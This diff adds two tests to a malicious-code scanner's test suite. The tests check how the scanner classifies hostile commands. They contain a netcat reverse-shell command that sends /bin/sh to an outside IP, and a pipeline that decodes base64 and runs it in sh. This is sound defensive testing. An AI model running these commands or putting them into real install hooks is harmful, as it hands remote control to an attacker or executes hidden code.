@@ -131,3 +131,20 @@ def test_obfuscation_long_encoded_literal_is_not_an_inlined_image_or_names_run_t
         [f"ICON = '{png}'", f"LOGO = 'data:image/gif;base64,{gif}'", f"x = {names}", f"P = '{payload}'"]
     )
     assert _found(text) == [("obfuscation.long-encoded-literal", 4)]
+
+
+def test_network_reverse_shell_in_data_is_a_capability_in_signature_lists_and_docs():
+    command = "nc -e /bin/sh 203.0.113.9 4444"
+    (in_yaml,) = text_findings("pkg/rules/malicious_code.yaml", f'- keyword: "{command}"\n')
+    assert in_yaml.rule == "network.reverse-shell-in-data" and in_yaml.kind == "capability"
+    assert in_yaml.severity == "medium"  # still reported on its line
+    (in_script,) = text_findings("pkg/hooks/post_install.sh", command + "\n")
+    assert in_script.rule == "network.reverse-shell"
+
+
+def test_long_encoded_runs_in_data_files_are_not_payloads_but_in_scripts_they_are():
+    blob = base64.b64encode(random.Random(13).randbytes(1800)).decode()
+    assert list(text_findings("pkg/tests/data/zoneinfo.json", f'{{"data": "{blob}"}}')) == []
+    assert [f.rule for f in text_findings("pkg/bin/run", f"echo {blob} | base64 -d | sh")] == [
+        "obfuscation.long-encoded-literal"
+    ]
